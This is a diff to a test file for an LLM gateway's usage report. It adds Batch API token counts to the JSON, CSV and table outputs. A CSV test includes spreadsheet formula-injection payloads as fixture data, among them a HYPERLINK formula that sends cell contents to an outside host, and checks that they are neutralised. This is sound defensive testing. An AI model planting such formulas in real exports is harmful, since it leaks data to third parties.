@@ -23,11 +23,12 @@ from serving.gateway.usage_ledger.tally import UsageRow
 
 QUERY = ReportQuery("2026-03-01", "2026-03-31")
 ROWS = [
-    UsageRow("2026-03-02", "key_5e01c9a7", "qwen3-tiny", 100, 40),
+    UsageRow("2026-03-02", "key_5e01c9a7", "qwen3-tiny", 100, 40, 60, 30),
     UsageRow("2026-03-01", "key_5e01c9a7", "team-a-lora", 20, 8),
     UsageRow("2026-03-01", "dev", "qwen3-tiny", 3, 1),
-    UsageRow("2026-03-01", "key_5e01c9a7", "qwen3-tiny", 7, 2),
+    UsageRow("2026-03-01", "key_5e01c9a7", "qwen3-tiny", 7, 2, 7, 0),
 ]
+NO_BATCH = {"prompt_tokens": 0, "completion_tokens": 0, "total_tokens": 0}
 NAMES = {"key_5e01c9a7": "team-a"}
 
 
@@ -83,6 +84,7 @@ def test_a_secret_given_as_the_key_is_refused_and_not_echoed() -> None:
 
 
 def test_the_json_has_rows_totals_per_key_and_model_and_a_total() -> None:
+    """Every count comes with the part of it that Batch API lines used."""
     report = build_report(QUERY, ROWS, NAMES.get)
     assert report == {
         "object": "usage_report",
@@ -91,30 +93,37 @@ def test_the_json_has_rows_totals_per_key_and_model_and_a_total() -> None:
         "key_id": None,
         "rows": [
             {"day": "2026-03-01", "key_id": "dev", "key_name": None, "model": "qwen3-tiny",
-             "prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4},
+             "prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4,
+             "batch": NO_BATCH},
             {"day": "2026-03-01", "key_id": "key_5e01c9a7", "key_name": "team-a",
              "model": "qwen3-tiny", "prompt_tokens": 7, "completion_tokens": 2,
-             "total_tokens": 9},
+             "total_tokens": 9,
+             "batch": {"prompt_tokens": 7, "completion_tokens": 0, "total_tokens": 7}},
             {"day": "2026-03-01", "key_id": "key_5e01c9a7", "key_name": "team-a",
              "model": "team-a-lora", "prompt_tokens": 20, "completion_tokens": 8,
-             "total_tokens": 28},
+             "total_tokens": 28, "batch": NO_BATCH},
             {"day": "2026-03-02", "key_id": "key_5e01c9a7", "key_name": "team-a",
              "model": "qwen3-tiny", "prompt_tokens": 100, "completion_tokens": 40,
-             "total_tokens": 140},
+             "total_tokens": 140,
+             "batch": {"prompt_tokens": 60, "completion_tokens": 30, "total_tokens": 90}},
         ],
         "keys": [
             {"key_id": "dev", "key_name": None, "prompt_tokens": 3, "completion_tokens": 1,
-             "total_tokens": 4, "models": [
+             "total_tokens": 4, "batch": NO_BATCH, "models": [
                  {"model": "qwen3-tiny", "prompt_tokens": 3, "completion_tokens": 1,
-                  "total_tokens": 4}]},
+                  "total_tokens": 4, "batch": NO_BATCH}]},
             {"key_id": "key_5e01c9a7", "key_name": "team-a", "prompt_tokens": 127,
-             "completion_tokens": 50, "total_tokens": 177, "models": [
+             "completion_tokens": 50, "total_tokens": 177,
+             "batch": {"prompt_tokens": 67, "completion_tokens": 30, "total_tokens": 97},
+             "models": [
                  {"model": "qwen3-tiny", "prompt_tokens": 107, "completion_tokens": 42,
-                  "total_tokens": 149},
+                  "total_tokens": 149,
+                  "batch": {"prompt_tokens": 67, "completion_tokens": 30, "total_tokens": 97}},
                  {"model": "team-a-lora", "prompt_tokens": 20, "completion_tokens": 8,
-                  "total_tokens": 28}]},
+                  "total_tokens": 28, "batch": NO_BATCH}]},
         ],
-        "total": {"prompt_tokens": 130, "completion_tokens": 51, "total_tokens": 181},
+        "total": {"prompt_tokens": 130, "completion_tokens": 51, "total_tokens": 181,
+                  "batch": {"prompt_tokens": 67, "completion_tokens": 30, "total_tokens": 97}},
     }  # fmt: skip
     assert json.loads(render(report, "json")) == report
 
@@ -133,11 +142,12 @@ def test_names_are_looked_up_once_per_key() -> None:
 def test_csv_is_the_rows_with_a_header() -> None:
     text = render(build_report(QUERY, ROWS, NAMES.get), "csv")
     assert text.splitlines() == [  # text quoted, numbers bare
-        '"day","key_id","key_name","model","prompt_tokens","completion_tokens","total_tokens"',
-        '"2026-03-01","dev","","qwen3-tiny",3,1,4',
-        '"2026-03-01","key_5e01c9a7","team-a","qwen3-tiny",7,2,9',
-        '"2026-03-01","key_5e01c9a7","team-a","team-a-lora",20,8,28',
-        '"2026-03-02","key_5e01c9a7","team-a","qwen3-tiny",100,40,140',
+        '"day","key_id","key_name","model","prompt_tokens","completion_tokens","total_tokens",'
+        '"batch_prompt_tokens","batch_completion_tokens","batch_total_tokens"',
+        '"2026-03-01","dev","","qwen3-tiny",3,1,4,0,0,0',
+        '"2026-03-01","key_5e01c9a7","team-a","qwen3-tiny",7,2,9,7,0,7',
+        '"2026-03-01","key_5e01c9a7","team-a","team-a-lora",20,8,28,0,0,0',
+        '"2026-03-02","key_5e01c9a7","team-a","qwen3-tiny",100,40,140,60,30,90',
     ]
     assert len(list(csv.DictReader(io.StringIO(text)))) == 4
 
@@ -147,16 +157,16 @@ def test_the_table_has_the_rows_then_totals_per_key_and_in_all() -> None:
     assert text == (
         "usage from 2026-03-01 to 2026-03-31 (UTC), all keys\n"
         "\n"
-        "DAY         KEY_ID        NAME    MODEL        PROMPT  COMPLETION  TOTAL\n"
-        "2026-03-01  dev           -       qwen3-tiny        3           1      4\n"
-        "2026-03-01  key_5e01c9a7  team-a  qwen3-tiny        7           2      9\n"
-        "2026-03-01  key_5e01c9a7  team-a  team-a-lora      20           8     28\n"
-        "2026-03-02  key_5e01c9a7  team-a  qwen3-tiny      100          40    140\n"
+        "DAY         KEY_ID        NAME    MODEL        PROMPT  COMPLETION  TOTAL  BATCH\n"
+        "2026-03-01  dev           -       qwen3-tiny        3           1      4      0\n"
+        "2026-03-01  key_5e01c9a7  team-a  qwen3-tiny        7           2      9      7\n"
+        "2026-03-01  key_5e01c9a7  team-a  team-a-lora      20           8     28      0\n"
+        "2026-03-02  key_5e01c9a7  team-a  qwen3-tiny      100          40    140     90\n"
         "\n"
-        "KEY_ID        NAME    PROMPT  COMPLETION  TOTAL\n"
-        "dev           -            3           1      4\n"
-        "key_5e01c9a7  team-a     127          50    177\n"
-        "all                      130          51    181\n"
+        "KEY_ID        NAME    PROMPT  COMPLETION  TOTAL  BATCH\n"
+        "dev           -            3           1      4      0\n"
+        "key_5e01c9a7  team-a     127          50    177     97\n"
+        "all                      130          51    181     97\n"
     )
     empty = build_report(ReportQuery("2026-03-01", "2026-03-01", "dev"), [], NAMES.get)
     assert render(empty, "table") == "usage from 2026-03-01 to 2026-03-01 (UTC), key dev: none\n"
@@ -186,12 +196,12 @@ def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula() -> None:
     assert [row[2] for row in cells[:6]] == [f"'{formula}" for formula in FORMULAS]
     lines = text.splitlines()
     assert lines[1] == '"2026-03-01","key_00000000","\'=HYPERLINK(""http://x/?""&A1,""t"")",' + (
-        '"qwen3-tiny",0,1,1'
+        '"qwen3-tiny",0,1,1,0,0,0'
     )
-    assert cells[6] == ["2026-03-02", "'=1+1", "", "'-lora", "-5", "2", "-3"]
-    assert cells[7] == ["2026-03-02", "key_0000000a", "team;=1+1", "x\r=1+1", "3", "-4", "-1"]
-    assert '"team;=1+1","x\r=1+1",3,-4,-1' in text
-    assert cells[8] == ["2026-03-02", "key_0000000b", "", "'@model", "1", "1", "2"]
+    assert cells[6] == ["2026-03-02", "'=1+1", "", "'-lora", "-5", "2", "-3", "0", "0", "0"]
+    assert cells[7][:7] == ["2026-03-02", "key_0000000a", "team;=1+1", "x\r=1+1", "3", "-4", "-1"]
+    assert '"team;=1+1","x\r=1+1",3,-4,-1,0,0,0' in text
+    assert cells[8][:7] == ["2026-03-02", "key_0000000b", "", "'@model", "1", "1", "2"]
     # Only the CSV: the JSON stays the data as recorded, the table what a terminal shows.
     document = build_report(QUERY, rows, names.get)
     assert json.loads(render(document, "json"))["rows"][0]["key_name"] == FORMULAS[0]
